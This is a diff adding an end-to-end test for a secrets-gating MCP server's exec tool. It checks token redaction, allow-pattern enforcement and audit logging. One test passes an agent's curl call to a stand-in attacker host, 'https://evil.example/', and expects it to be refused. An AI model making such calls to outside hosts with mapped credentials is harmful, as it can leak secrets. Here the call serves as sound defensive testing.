@@ -1,0 +1,139 @@
+/**
+ * exec end to end: the official MCP SDK client over stdio against the BUILT
+ * `janee serve`, once with the gate in serve's own process (passphrase in its
+ * environment) and once through an unlocked agent (no passphrase: the program is
+ * then started by the agent, which its parent pid shows). A real curl sends the
+ * mapped token to the loopback upstream; nothing serve writes holds the token.
+ */
+import * as fs from 'node:fs/promises';
+import * as path from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { cleanupTempHomes, runJanee, scratchDir } from '../helpers/cli.js';
+import { auditEntries, closeAllServes, findForms, secretForms, startServe, textOf, type ServeSession } from '../helpers/mcp.js';
+import { startUpstream, type Upstream } from '../helpers/upstream.js';
+import { addService, agentHome, killAllAgents, noPass, status, unlock, type AgentEnv } from '../agent/helpers.js';
+
+const TOKEN = 'sk_test_exec_serve_4c1d9e7a2b58f03';
+let up: Upstream;
+
+beforeAll(async () => {
+  up = await startUpstream();
+  up.route('/v1/check', (req, res) => {
+    const ok = req.headers.authorization === `Bearer ${TOKEN}`;
+    res.writeHead(ok ? 200 : 401, { 'content-type': 'text/plain' });
+    res.end(ok ? `ok ${req.headers.authorization}\n` : 'bad token\n');
+  });
+});
+
+afterAll(async () => {
+  await closeAllServes();
+  killAllAgents();
+  await up?.close();
+  await cleanupTempHomes();
+});
+
+/** A home with the secret `api` (bound to the upstream) and commands using it. */
+async function homeWithCommands(): Promise<AgentEnv> {
+  const env = await agentHome();
+  const r = await addService(env, 'api', up.url, TOKEN);
+  expect(r.code, r.stderr).toBe(0);
+  for (const c of ['curl', 'who']) {
+    const b = await runJanee(['bind', 'api', `exec:${c}`], { env });
+    expect(b.code, b.stderr).toBe(0);
+    expect(b.stderr).toContain(`bound api to exec:${c}`);
+  }
+  const bin = path.join(scratchDir(env), 'bin');
+  await fs.mkdir(bin);
+  const curl = path.join(bin, 'curl-auth');
+  await fs.writeFile(curl, `#!/bin/sh\nprintf 'Authorization: Bearer %s\\n' "$API_TOKEN" | curl -sS -H @- "$@"\n`, { mode: 0o755 });
+  const who = path.join(bin, 'who');
+  await fs.writeFile(who, '#!/bin/sh\necho "ppid=$PPID"\necho "token=$API_TOKEN"\n', { mode: 0o755 });
+  const config = path.join(env.JANEE_HOME, 'config.yaml');
+  await fs.appendFile(
+    config,
+    [
+      'commands:',
+      '  curl:',
+      `    program: ${curl}`,
+      '    env: { API_TOKEN: api }',
+      `    allow: ["${up.url}/v1/*"]`,
+      '  who:',
+      `    program: ${who}`,
+      '    env: { API_TOKEN: api }',
+      '    allow: [""]',
+      '  wide:',
+      '    program: env',
+      '    env: { API_TOKEN: api }',
+      '    allow: ["**"]',
+      '',
+    ].join('\n'),
+  );
+  return env;
+}
+
+function noSecretIn(s: ServeSession): void {
+  const forms = secretForms(TOKEN);
+  expect(findForms(s.transport.stdoutBytes, forms)).toEqual([]);
+  expect(findForms(s.transport.stderrBytes, forms)).toEqual([]);
+}
+
+async function curlThrough(s: ServeSession): Promise<void> {
+  const r = await s.call('exec', { command: 'curl', args: [`${up.url}/v1/check`] });
+  expect(r.isError, textOf(r)).toBeFalsy();
+  expect(r.structuredContent).toMatchObject({ exitCode: 0, stdout: 'ok [REDACTED:api]\n', stderr: '', truncated: false, timedOut: false });
+  const refused = await s.call('exec', { command: 'curl', args: ['https://evil.example/'] });
+  expect(refused.isError).toBe(true);
+  expect(textOf(refused)).toMatch(/no allow pattern matches these arguments/);
+  expect(textOf(refused)).toMatch(/hint: /);
+  const list = await s.call('list_commands');
+  expect(list.structuredContent).toMatchObject({
+    commands: [
+      { name: 'curl', allow: [`${up.url}/v1/*`], blocked: false, secretPresent: true },
+      { name: 'who' },
+      { name: 'wide', allow: ['**'] },
+    ],
+  });
+}
+
+describe.concurrent('exec over MCP stdio', { timeout: 120_000 }, () => {
+  it('in serve’s own process: curl gets the token, the agent gets it redacted; the ** warning goes to stderr only', async () => {
+    const env = await homeWithCommands();
+    const s = await startServe({ env, args: ['--agent', 'desk'] });
+    await curlThrough(s);
+    const who = await s.call('exec', { command: 'who', args: [] });
+    expect(who.structuredContent).toMatchObject({ exitCode: 0 });
+    expect((who.structuredContent as { stdout: string }).stdout).toMatch(/^ppid=\d+\ntoken=\[REDACTED:api\]\n$/);
+    expect(s.stderr()).toMatch(/janee: warning: commands\.wide: "\*\*" lets the agent pass any arguments to env/);
+    expect(s.stdout()).not.toMatch(/warning/);
+    // wide maps api too, but the vault does not bind api to exec:wide.
+    const wide = await s.call('exec', { command: 'wide', args: [] });
+    expect(wide.isError).toBe(true);
+    expect(textOf(wide)).toMatch(/secret "api" is not bound to exec:wide/);
+    noSecretIn(s);
+    await s.close();
+    const audit = (await auditEntries(env.JANEE_HOME)).filter((e) => e.method === 'EXEC');
+    expect(audit.map((e) => [e.service, e.outcome])).toEqual([
+      ['curl', 'allowed'],
+      ['curl', 'blocked'],
+      ['who', 'allowed'],
+      ['wide', 'blocked'],
+    ]);
+    expect(audit.every((e) => e.agent === 'desk')).toBe(true);
+  });
+
+  it('through the unlocked agent (no passphrase in serve): the agent runs the program', async () => {
+    const env = await homeWithCommands();
+    expect((await unlock(env)).code).toBe(0);
+    const agentPid = (await status(env)).pid;
+    const s = await startServe({ env: noPass(env), args: ['--agent', 'desk'] });
+    await curlThrough(s);
+    const who = await s.call('exec', { command: 'who', args: [] });
+    expect(who.isError, textOf(who)).toBeFalsy();
+    expect((who.structuredContent as { stdout: string }).stdout).toBe(`ppid=${agentPid}\ntoken=[REDACTED:api]\n`);
+    noSecretIn(s);
+    expect(s.stderr()).toMatch(/using the agent/);
+    await s.close();
+    const audit = (await auditEntries(env.JANEE_HOME)).filter((e) => e.method === 'EXEC');
+    expect(audit.map((e) => e.outcome)).toEqual(['allowed', 'blocked', 'allowed']);
+  });
+});
